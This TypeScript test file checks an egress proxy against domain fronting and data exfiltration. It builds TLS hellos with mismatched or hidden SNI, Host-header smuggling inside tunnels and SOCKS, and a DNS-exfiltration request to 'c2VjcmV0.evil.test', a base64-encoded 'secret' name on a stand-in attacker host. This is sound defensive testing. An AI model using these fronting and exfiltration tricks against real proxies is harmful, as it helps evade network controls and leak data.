/** T-51: an allowed host is used to reach another that is behind the same address, or a name to carry data to its servers. */
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { connect as connectTls, createServer as createTlsServer, type TLSSocket } from 'node:tls';
import { parseHostRule } from '@palyra/egress';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { createCallAuthority } from '../../packages/egress/src/proxy/call-authority.ts';
import { answerPlainly, type Origin, startOrigin } from '../egress/origins.ts';
import { type OpenedCall, openCall, type ProxyPlace, readAll, startProxyPlace, tell } from '../egress/proxy-process.ts';

const NAMES = new URL('../egress/scripted-names-program.ts', import.meta.url).pathname;
let place: ProxyPlace;
let origin: Origin;
let call: OpenedCall;

beforeAll(async () => {
  place = await startProxyPlace(NAMES);
});
afterAll(() => place.close());

beforeEach(async () => {
  origin = await startOrigin();
  call = await open([`good.test:${origin.port}`]);
});

afterEach(async () => {
  await call.close();
  await origin.close();
});

function open(rules: readonly string[], more: Parameters<typeof openCall>[1] = {}): Promise<OpenedCall> {
  return openCall(place, { rules: rules.map(parseHostRule), privateRanges: [`127.0.0.1:${origin.port}`], ...more });
}

async function tunnel(to: OpenedCall, host = `good.test:${origin.port}`): Promise<Socket> {
  const socket = await to.dial();
  socket.on('error', () => {});
  socket.write(`CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  await once(socket, 'data');
  return socket;
}

/** The real bytes of OpenSSL's handshake for this name. */
async function helloFor(servername: string | undefined): Promise<Buffer> {
  const trap = await startOrigin();
  const socket = connectTls({
    port: trap.port,
    host: '127.0.0.1',
    ...(servername === undefined ? {} : { servername }),
  });
  socket.on('error', () => {});
  await expect.poll(() => trap.heard[0]?.length ?? 0).toBeGreaterThan(100);
  socket.destroy();
  await trap.close();
  return trap.heard[0] ?? Buffer.alloc(0);
}

const heard = (): Buffer => Buffer.concat(origin.heard);

test.each([
  ['names another host', 'other.test', 'egress.sni_mismatch'],
  ['names a part of the host', 'test', 'egress.sni_mismatch'],
  ['names one below the host', 'x.good.test', 'egress.sni_mismatch'],
  ['names no host', undefined, 'egress.sni_missing'],
])('a handshake that %s does not reach the host, also byte by byte', async (_what, name, code) => {
  const hello = await helloFor(name);
  for (const pieces of [[hello], [...hello].map((byte) => Buffer.from([byte]))]) {
    const socket = await tunnel(call);
    for (const piece of pieces) socket.write(piece);
    expect(Buffer.from(await readAll(socket), 'latin1')).toEqual(Buffer.from([0x15, 3, 3, 0, 2, 2, 0x70]));
    socket.destroy();
  }
  expect(heard()).toHaveLength(0);
  expect((await call.close()).map(({ outcome, denial, bytesOut }) => [outcome, denial?.code, bytesOut])).toEqual([
    ['denied', code, 0],
    ['denied', code, 0],
  ]);
});

test('the right name passes in any case and however it is cut, and is recorded', async () => {
  for (const name of ['good.test', 'GOOD.test']) {
    const hello = await helloFor(name);
    const socket = await tunnel(call);
    socket.write(hello.subarray(0, 7));
    socket.write(hello.subarray(7));
    const before = heard().length;
    await expect.poll(() => heard().length - before).toBe(hello.length);
    socket.destroy();
  }
  expect((await call.close()).map(({ sni }) => sni)).toEqual(['good.test', 'GOOD.test']);
});

/** Puts an encrypted_client_hello extension at the end of a handshake. */
function withEncryptedHello(hello: Buffer): Buffer {
  const extension = Buffer.from([0xfe, 0x0d, 0, 4, 0, 0, 0, 0]);
  const grown = Buffer.concat([hello, extension]);
  grown.writeUInt16BE(grown.readUInt16BE(3) + extension.length, 3);
  grown.writeUIntBE(grown.readUIntBE(6, 3) + extension.length, 6, 3);
  let at = 9 + 2 + 32;
  at += 1 + (grown[at] ?? 0);
  at += 2 + grown.readUInt16BE(at);
  at += 1 + (grown[at] ?? 0);
  grown.writeUInt16BE(grown.readUInt16BE(at) + extension.length, at);
  return grown;
}

test('a handshake that hides its name is refused, unless the call says otherwise', async () => {
  const hidden = withEncryptedHello(await helloFor('good.test'));
  const socket = await tunnel(call);
  socket.write(hidden);
  await readAll(socket);
  socket.destroy();
  expect(heard()).toHaveLength(0);
  expect(await call.close()).toMatchObject([{ outcome: 'denied', denial: { code: 'egress.ech_refused' } }]);
  const bold = await open([`good.test:${origin.port}`], { encryptedHello: 'allow' });
  const allowed = await tunnel(bold);
  allowed.write(hidden);
  await expect.poll(() => heard().length).toBe(hidden.length);
  allowed.destroy();
  await bold.close();
});

/** The host asks for the hello once more, and then answers nothing. */
const RETRY = Buffer.concat([
  Buffer.from([22, 3, 3, 0, 44, 2, 0, 0, 40, 3, 3]),
  Buffer.from('cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c', 'hex'),
  Buffer.from([0, 0x13, 1, 0, 0, 0]),
]);
const EARLY_DATA = Buffer.from([23, 3, 3, 0, 3, 1, 2, 3]);

test('a second hello is held to the name of the first, also when it comes unasked and behind early data', async () => {
  const asking = await startOrigin((socket) => socket.once('data', () => socket.write(RETRY)));
  const to = await open([`good.test:${asking.port}`], { privateRanges: [`127.0.0.1:${asking.port}`] });
  const [good, other] = [await helloFor('good.test'), await helloFor('other.test')];
  const fronting = await tunnel(to, `good.test:${asking.port}`);
  fronting.write(Buffer.concat([good, EARLY_DATA, other]));
  await readAll(fronting);
  fronting.destroy();
  expect(Buffer.concat(asking.heard)).toEqual(Buffer.concat([good, EARLY_DATA]));
  const honest = await tunnel(to, `good.test:${asking.port}`);
  honest.write(good);
  await once(honest, 'data');
  honest.write(Buffer.concat([good, Buffer.from('and so on')]));
  await expect.poll(() => asking.heard[1]?.length).toBe(good.length * 2 + 9);
  honest.destroy();
  expect((await to.close()).map(({ outcome, denial }) => [outcome, denial?.code])).toEqual([
    ['denied', 'egress.sni_mismatch'],
    ['allowed', undefined],
  ]);
  await asking.close();
});

test('plain HTTP in a tunnel, or over SOCKS, is held to the host of the tunnel, in every request', async () => {
  const web = await startOrigin(answerPlainly);
  const to = await open([`good.test:${web.port}`], { privateRanges: [`127.0.0.1:${web.port}`] });
  const host = `good.test:${web.port}`;
  const get = (name: string): string => `GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`;
  const connect = `CONNECT ${host} HTTP/1.1\r\n\r\n`;
  const socks = Buffer.from([5, 1, 0, 5, 1, 0, 3, 9, ...Buffer.from('good.test'), web.port >> 8, web.port & 255]);
  const statuses = (answer: string): readonly string[] => answer.match(/HTTP\/1\.1 \d{3}/g)?.slice(-2) ?? [];
  expect(statuses(await tell(to, connect, get(host), get('other.test')))).toEqual(['HTTP/1.1 200', 'HTTP/1.1 400']);
  expect(statuses(await tell(to, socks, get('other.test')))).toEqual(['HTTP/1.1 400']);
  expect(statuses(await tell(to, connect, `\r\n\r\n${get('other.test')}`))).toEqual(['HTTP/1.1 200', 'HTTP/1.1 400']);
  expect(statuses(await tell(to, connect, get('other.test').toLowerCase()))).toEqual(['HTTP/1.1 200', 'HTTP/1.1 400']);
  expect(statuses(await tell(to, connect, `GET http://other.test/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`))).toEqual([
    'HTTP/1.1 200',
    'HTTP/1.1 400',
  ]);
  expect(Buffer.concat(web.heard).toString()).not.toContain('other');
  await to.close();
  await web.close();
});

test('a request without a version, which no Host can be asked of, does not pass; words of other protocols do', async () => {
  const web = await startOrigin((socket) => void socket.once('data', () => socket.end('heard')));
  const host = `good.test:${web.port}`;
  const to = await open([host], { privateRanges: [`127.0.0.1:${web.port}`] });
  const say = async (bytes: string): Promise<string> => {
    const socket = await tunnel(to, host);
    socket.write(bytes);
    const answer = await readAll(socket);
    socket.destroy();
    return answer;
  };
  const old = ['GET /x\r\n', '\r\nGET  http://other.test/\n', 'GET /x\r\nHost: other.test\r\n\r\n'];
  for (const bytes of old) expect(await say(bytes)).toBe('');
  expect(await say('get stored-key\r\n')).toBe('heard');
  expect(Buffer.concat(web.heard).toString()).toBe('get stored-key\r\n');
  const outcomes = (await to.close()).map(({ outcome, denial }) => `${outcome} ${denial?.code ?? ''}`);
  expect(outcomes).toEqual([...old.map(() => 'denied egress.malformed_request'), 'allowed ']);
  await web.close();
});

test('a rule for https lets nothing else through', async () => {
  const only = await open([`https://good.test:${origin.port}`]);
  for (const bytes of [
    `GET / HTTP/1.1\r\nHost: good.test:${origin.port}\r\n\r\n`,
    'EHLO good.test\r\n',
    Buffer.from([0, 1, 2]),
  ]) {
    const socket = await tunnel(only);
    socket.write(bytes);
    await readAll(socket);
    socket.destroy();
  }
  expect(
    await tell(only, `GET http://good.test:${origin.port}/ HTTP/1.1\r\nHost: good.test:${origin.port}\r\n\r\n`),
  ).toContain('"code":"egress.scheme_not_allowed"');
  expect(heard()).toHaveLength(0);
  expect((await only.close()).map(({ denial }) => denial?.code)).toEqual(
    Array.from({ length: 4 }, () => 'egress.scheme_not_allowed'),
  );
});

test('a host that speaks first is heard, and what the tool then says is still looked at', async () => {
  const greeter = await startOrigin((socket) => socket.write('220 ready\r\n'));
  const to = await open([`good.test:${greeter.port}`], { privateRanges: [`127.0.0.1:${greeter.port}`] });
  const talking = await to.dial();
  const said: Buffer[] = [];
  talking.on('data', (bytes: Buffer) => said.push(bytes));
  talking.write(`CONNECT good.test:${greeter.port} HTTP/1.1\r\n\r\n`);
  await expect.poll(() => Buffer.concat(said).toString()).toContain('220 ready');
  talking.write('EHLO me\r\n');
  await expect.poll(() => Buffer.concat(greeter.heard).toString()).toBe('EHLO me\r\n');
  talking.destroy();
  const fronting = await tunnel(to, `good.test:${greeter.port}`);
  fronting.on('data', () => {});
  fronting.write('GET / HTTP/1.1\r\nHost: other.test\r\n\r\n');
  await once(fronting, 'end');
  fronting.destroy();
  expect(Buffer.concat(greeter.heard).toString()).not.toContain('other.test');
  await to.close();
  await greeter.close();
});

test('no name server hears of a name that is not allowed', async () => {
  await tell(call, 'GET http://c2VjcmV0.evil.test/ HTTP/1.1\r\nHost: c2VjcmV0.evil.test\r\n\r\n');
  await tell(call, 'CONNECT c2VjcmV0.evil.test:443 HTTP/1.1\r\n\r\n');
  const socket = await tunnel(call);
  socket.destroy();
  const asked = Buffer.concat(place.wire.errors).toString();
  expect(asked).toContain('resolve good.test');
  expect(asked).not.toContain('evil');
});

test('TLS goes through as it is: the tool verifies the host itself, and nobody in between can read', async () => {
  const house = createCallAuthority([parseHostRule('good.test')], Date.now());
  const server = createTlsServer(
    { SNICallback: (name, done) => done(null, house.contextFor(name)) },
    (socket: TLSSocket) => socket.pipe(socket),
  );
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as { port: number };
  const to = await open([`good.test:${port}`], { privateRanges: [`127.0.0.1:${port}`] });
  const raw = await tunnel(to, `good.test:${port}`);
  const secure = connectTls({ socket: raw, servername: 'good.test', ca: house.caPem });
  await once(secure, 'secureConnect');
  const big = Buffer.alloc(2_000_000, 'y');
  secure.end(big);
  expect((await readAll(secure)).length).toBe(big.length);
  const [attempt] = await to.close();
  expect(attempt).toMatchObject({ outcome: 'allowed', sni: 'good.test' });
  expect(Math.min(attempt?.bytesIn ?? 0, attempt?.bytesOut ?? 0)).toBeGreaterThan(big.length);
  server.close();
});
